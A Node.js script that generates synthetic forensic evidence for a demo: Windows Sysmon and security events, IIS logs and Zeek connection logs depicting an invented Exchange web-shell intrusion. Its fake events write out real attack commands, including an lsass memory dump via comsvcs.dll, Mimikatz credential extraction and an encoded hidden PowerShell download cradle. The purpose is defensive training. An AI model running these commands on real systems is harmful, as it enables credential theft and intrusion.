#!/usr/bin/env node
// Writes demo/evidence/: a small, invented intrusion (Exchange web shell → credential dumping →
// PsExec to a workstation → exfiltration) among benign activity, in three evidence formats.
// Deterministic; rerun after changing it: node scripts/make-demo-evidence.mjs
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

const out = join(new URL('..', import.meta.url).pathname, 'demo', 'evidence');
mkdirSync(out, { recursive: true });

const SYSMON = { name: 'Microsoft-Windows-Sysmon', channel: 'Microsoft-Windows-Sysmon/Operational' };
const SECURITY = { name: 'Microsoft-Windows-Security-Auditing', channel: 'Security' };
const SCM = { name: 'Service Control Manager', channel: 'System' };
let recordId = 1000;

function event(provider, eventId, time, computer, data) {
  return {
    Event: {
      System: {
        Provider: { '#attributes': { Name: provider.name } },
        EventID: eventId,
        TimeCreated: { '#attributes': { SystemTime: time } },
        EventRecordID: recordId++,
        Channel: provider.channel,
        Computer: computer,
      },
      EventData: data,
    },
  };
}

const process = (time, host, image, commandLine, parentImage, user = 'NT AUTHORITY\\SYSTEM') =>
  event(SYSMON, 1, time, host, {
    UtcTime: time.replace('T', ' ').replace('Z', ''),
    Image: image,
    CommandLine: commandLine,
    ParentImage: parentImage,
    ParentCommandLine: parentImage,
    User: user,
    OriginalFileName: image.split('\\').pop().toUpperCase(),
    IntegrityLevel: 'System',
  });

const events = [];
// Benign background: logons and ordinary processes through the day.
for (let h = 6; h < 20; h++) {
  const t = `2026-05-10T${String(h).padStart(2, '0')}:0${h % 6}:11Z`;
  events.push(process(t, 'EXCH01.corp.example', 'C:\\Windows\\System32\\svchost.exe', 'svchost.exe -k netsvcs', 'C:\\Windows\\System32\\services.exe'));
  events.push(event(SECURITY, 4624, t, 'DC01.corp.example', { TargetUserName: `user${h}`, LogonType: 2, IpAddress: '10.0.4.' + h }));
}
// The intrusion.
events.push(
  event(SYSMON, 11, '2026-05-10T02:14:07Z', 'EXCH01.corp.example', {
    Image: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe',
    TargetFilename: 'C:\\inetpub\\wwwroot\\aspnet_client\\errorEE.aspx',
  }),
  process('2026-05-10T02:15:30Z', 'EXCH01.corp.example', 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c whoami /all', 'C:\\Windows\\System32\\inetsrv\\w3wp.exe'),
  process('2026-05-10T02:16:02Z', 'EXCH01.corp.example', 'C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\ProgramData\\lsass.dmp full', 'C:\\Windows\\System32\\cmd.exe'),
  process('2026-05-10T02:20:44Z', 'EXCH01.corp.example', 'C:\\ProgramData\\m.exe', 'm.exe "privilege::debug" "sekurlsa::logonpasswords" exit', 'C:\\Windows\\System32\\cmd.exe'),
  event(SECURITY, 4624, '2026-05-10T02:31:09Z', 'WS-014.corp.example', { TargetUserName: 'svc-backup', LogonType: 3, IpAddress: '10.0.1.5', WorkstationName: 'EXCH01' }),
  event(SCM, 7045, '2026-05-10T02:31:12Z', 'WS-014.corp.example', { ServiceName: 'PSEXESVC', ImagePath: '%SystemRoot%\\PSEXESVC.exe', ServiceType: 'user mode service', StartType: 'demand start', AccountName: 'LocalSystem' }),
  process('2026-05-10T02:33:40Z', 'EXCH01.corp.example', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA', 'C:\\Windows\\System32\\cmd.exe'),
);
events.sort((a, b) => a.Event.System.TimeCreated['#attributes'].SystemTime.localeCompare(b.Event.System.TimeCreated['#attributes'].SystemTime));
writeFileSync(join(out, 'windows-events.jsonl'), events.map((e) => JSON.stringify(e)).join('\n') + '\n');

// IIS on the Exchange server: ordinary OWA traffic and the web shell's requests from outside.
const iis = ['#Software: Microsoft Internet Information Services 10.0', '#Version: 1.0', '#Date: 2026-05-10 00:00:00',
  '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status sc-substatus sc-win32-status time-taken'];
for (let i = 0; i < 40; i++) {
  const m = String(i % 60).padStart(2, '0');
  iis.push(`2026-05-10 0${(i % 9) + 1}:${m}:00 10.0.1.5 GET /owa/ - 443 corp\\user${i % 7} 10.0.4.${i % 50} Mozilla/5.0+(Windows+NT+10.0) 200 0 0 ${15 + i}`);
}
iis.push(
  '2026-05-10 02:13:58 10.0.1.5 POST /ecp/y.js - 443 - 203.0.113.77 ExchangeServicesClient/0.0.0.0 200 0 0 88',
  '2026-05-10 02:15:29 10.0.1.5 POST /aspnet_client/errorEE.aspx cmd=whoami+/all 443 - 203.0.113.77 Mozilla/5.0+(compatible;+MSIE+9.0) 200 0 0 41',
  '2026-05-10 02:16:01 10.0.1.5 POST /aspnet_client/errorEE.aspx cmd=rundll32+comsvcs.dll+MiniDump 443 - 203.0.113.77 Mozilla/5.0+(compatible;+MSIE+9.0) 200 0 0 39',
);
writeFileSync(join(out, 'u_ex260510.log'), iis.join('\r\n') + '\r\n');

// Zeek conn.log at the perimeter: the exfiltration is the large outbound transfers.
const conn = ['#separator \\x09', '#set_separator\t,', '#empty_field\t(empty)', '#unset_field\t-', '#path\tconn', '#open\t2026-05-10-00-00-00',
  '#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_bytes\tresp_bytes\tconn_state',
  '#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tinterval\tcount\tcount\tstring'];
const t0 = Date.parse('2026-05-10T06:00:00Z') / 1000;
for (let i = 0; i < 60; i++) conn.push([t0 + i * 300, `Cdemo${i}`, `10.0.4.${i % 50}`, 50000 + i, '198.51.100.10', 443, 'tcp', 'ssl', '0.8', 2100 + i, 18000 + i * 7, 'SF'].join('\t'));
conn.push(
  [Date.parse('2026-05-10T03:02:00Z') / 1000, 'Cexfil1', '10.0.1.5', 51234, '203.0.113.80', 443, 'tcp', 'ssl', '612.4', 1_850_000_000, 91_000, 'SF'].join('\t'),
  [Date.parse('2026-05-10T03:40:00Z') / 1000, 'Cexfil2', '10.0.1.5', 51240, '192.0.2.45', 8443, 'tcp', 'ssl', '433.0', 920_000_000, 40_200, 'SF'].join('\t'),
);
conn.push('#close\t2026-05-11-00-00-00');
writeFileSync(join(out, 'conn.log'), conn.join('\n') + '\n');

// Indicators the CERT already had: the attacker's address range and the exfiltration server.
writeFileSync(join(out, '..', 'indicators.txt'), '# demo indicator list\n203.0.113.0/24\n192.0.2.45\n');
console.log(`wrote ${events.length} Windows events, ${iis.length} IIS lines, ${conn.length} conn.log lines to ${out}`);
